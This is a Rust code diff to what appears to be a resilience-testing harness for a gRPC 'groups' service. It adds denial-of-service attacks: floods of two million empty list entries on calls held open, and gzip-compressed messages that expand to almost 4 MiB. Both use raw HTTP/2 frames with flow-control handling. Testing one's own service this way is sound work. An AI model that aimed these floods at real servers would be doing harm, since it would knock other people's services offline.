@@ -56,9 +56,13 @@ pub(crate) enum Attack {
     FutureRevisions,
     /// Watchers that read all changes from the first one on, again and again.
     CatchUp,
+    /// Requests with lists of two million empty messages, on calls that stay open.
+    LongLists,
+    /// The same lists, and texts of almost 4 MiB, compressed to a few KiB, on calls that stay open.
+    CompressedRequests,
 }
 
-pub(crate) const ALL: [Attack; 15] = [
+pub(crate) const ALL: [Attack; 17] = [
     Attack::RapidReset,
     Attack::ContinuationFlood,
     Attack::PingFlood,
@@ -74,6 +78,8 @@ pub(crate) const ALL: [Attack; 15] = [
     Attack::Http1,
     Attack::FutureRevisions,
     Attack::CatchUp,
+    Attack::LongLists,
+    Attack::CompressedRequests,
 ];
 
 impl Attack {
@@ -181,7 +187,28 @@ impl Attack {
                     sleep(Duration::from_millis(1)).await;
                 }
             }
-            Self::LargeMessages => large(stream, pace).await?,
+            Self::LargeMessages => {
+                let request = message(false, &long_title());
+                let calls = [(call("CreateGroup"), request)];
+                upload(stream, pace, &calls, END_STREAM).await?;
+            }
+            Self::LongLists => {
+                let request = message(false, &empty_questions());
+                let calls = [(call("BatchCheckAccess"), request)];
+                upload(stream, pace, &calls, 0).await?;
+            }
+            Self::CompressedRequests => {
+                let calls = [
+                    ("BatchCheckAccess", empty_questions()),
+                    ("CreateGroup", long_title()),
+                ];
+                let calls = calls.map(|(rpc, request)| {
+                    let mut headers = call(rpc);
+                    literal(&mut headers, b"grpc-encoding", b"gzip");
+                    (headers, message(true, &gzip(&request)))
+                });
+                upload(stream, pace, &calls, 0).await?;
+            }
             Self::DeafWatchers => {
                 // No window: nothing may be sent.
                 stream
@@ -303,30 +330,55 @@ async fn half_open(target: SocketAddr, end: Instant) {
     sleep(end.saturating_duration_since(Instant::now())).await;
 }
 
-/// Calls with messages of almost 4 MiB, one after the other, as fast as the windows allow.
-async fn large(stream: TcpStream, pace: Duration) -> std::io::Result<()> {
+/// Two million questions of which nothing is said: `questions` is the first field, and each is empty.
+pub(crate) fn empty_questions() -> Vec<u8> {
+    [0x0a, 0].repeat(2_000_000)
+}
+
+/// A group with a title of almost 4 MiB.
+pub(crate) fn long_title() -> Vec<u8> {
+    let length = 3_999_995_u32;
+    // The first field, and how long it is: a varint of four bytes.
+    let mut request = vec![0x0a];
+    request.extend((0..4).map(|byte| {
+        let bits = (length >> (7 * byte)) & 0x7f;
+        u8::try_from(bits).expect("seven bits") | if byte < 3 { 0x80 } else { 0 }
+    }));
+    request.resize(request.len() + length as usize, b'x');
+    request
+}
+
+pub(crate) fn gzip(data: &[u8]) -> Vec<u8> {
+    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    std::io::Write::write_all(&mut packed, data).expect("memory");
+    packed.finish().expect("memory")
+}
+
+/// A message as gRPC frames it.
+pub(crate) fn message(compressed: bool, data: &[u8]) -> Vec<u8> {
+    let length = u32::try_from(data.len()).expect("short").to_be_bytes();
+    [&[u8::from(compressed)][..], &length, data].concat()
+}
+
+/// Makes these calls, each with its headers and its message, again and again, as fast as the windows allow. `last` are the
+/// flags of a message's last frame: without `END_STREAM` the call stays open.
+async fn upload(
+    stream: TcpStream,
+    pace: Duration,
+    calls: &[(Vec<u8>, Vec<u8>)],
+    last: u8,
+) -> std::io::Result<()> {
     let (mut reading, mut writing) = stream.into_split();
     let mut window: i64 = 65_535;
     let mut streams = std::collections::HashMap::<u32, i64>::new();
-    let part = vec![b'x'; 16 << 10];
-    let message = 4_000_000_u32;
-    for id in (1..).step_by(2) {
-        let mut headers = frame(HEADERS, END_HEADERS, id, &call("CreateGroup"));
-        let mut head = vec![0];
-        head.extend(message.to_be_bytes());
-        // The title, and how long it is: a varint of four bytes.
-        head.push(0x0a);
-        let length = message - 5;
-        head.extend((0..4).map(|byte| {
-            let bits = (length >> (7 * byte)) & 0x7f;
-            u8::try_from(bits).expect("seven bits") | if byte < 3 { 0x80 } else { 0 }
-        }));
-        headers.extend(frame(DATA, 0, id, &head));
-        writing.write_all(&headers).await?;
-        window -= i64::try_from(head.len()).expect("short");
-        *streams.entry(id).or_insert(65_535) -= i64::try_from(head.len()).expect("short");
-        let mut left = length as usize;
-        while left > 0 {
+    let mut initial: i64 = 65_535;
+    for (id, (headers, message)) in (1..).step_by(2).zip(calls.iter().cycle()) {
+        writing
+            .write_all(&frame(HEADERS, END_HEADERS, id, headers))
+            .await?;
+        streams.insert(id, initial);
+        let mut left = &message[..];
+        while !left.is_empty() {
             let room = window.min(streams[&id]);
             if room <= 0 {
                 // Nothing but windows is of interest.
@@ -339,16 +391,20 @@ async fn large(stream: TcpStream, pace: Duration) -> std::io::Result<()> {
                 match (header[3], &payload[..]) {
                     (WINDOW_UPDATE, [a, b, c, d]) => {
                         let more = i64::from(u32::from_be_bytes([*a, *b, *c, *d]));
-                        match of {
-                            0 => window += more,
-                            of => *streams.entry(of).or_insert(65_535) += more,
+                        match streams.get_mut(&of) {
+                            _ if of == 0 => window += more,
+                            Some(stream) => *stream += more,
+                            None => {}
                         }
                     }
                     (SETTINGS, settings) if header[4] & 1 == 0 => {
                         for setting in settings.chunks_exact(6).filter(|setting| setting[1] == 4) {
                             let [_, _, a, b, c, d] = setting.try_into().expect("six bytes");
-                            let initial = i64::from(u32::from_be_bytes([a, b, c, d]));
-                            *streams.entry(id).or_insert(65_535) += initial - 65_535;
+                            let now = i64::from(u32::from_be_bytes([a, b, c, d]));
+                            for stream in streams.values_mut() {
+                                *stream += now - initial;
+                            }
+                            initial = now;
                         }
                         writing.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
                     }
@@ -358,17 +414,15 @@ async fn large(stream: TcpStream, pace: Duration) -> std::io::Result<()> {
                 }
                 continue;
             }
-            let now = left
-                .min(part.len())
-                .min(usize::try_from(room).expect("positive"));
-            let flags = if now == left { END_STREAM } else { 0 };
-            writing
-                .write_all(&frame(DATA, flags, id, &part[..now]))
-                .await?;
-            left -= now;
+            let now = left.len().min(16 << 10);
+            let now = now.min(usize::try_from(room).expect("positive"));
+            let (part, rest) = left.split_at(now);
+            let flags = if rest.is_empty() { last } else { 0 };
+            writing.write_all(&frame(DATA, flags, id, part)).await?;
+            left = rest;
             let now = i64::try_from(now).expect("short");
             window -= now;
-            *streams.entry(id).or_insert(65_535) -= now;
+            *streams.entry(id).or_default() -= now;
         }
         streams.remove(&id);
         sleep(pace).await;
@@ -406,7 +460,7 @@ fn call(rpc: &str) -> Vec<u8> {
 /// The headers of a request: literals that nobody need remember.
 fn headers(rpc: &str, content_type: &[u8]) -> Vec<u8> {
     let service = match rpc {
-        "CheckAccess" => "groups.v1.AccessService",
+        "CheckAccess" | "BatchCheckAccess" => "groups.v1.AccessService",
         "WatchChanges" => "groups.v1.ChangeService",
         "ServerReflectionInfo" => "grpc.reflection.v1.ServerReflection",
         _ => "groups.v1.GroupService",
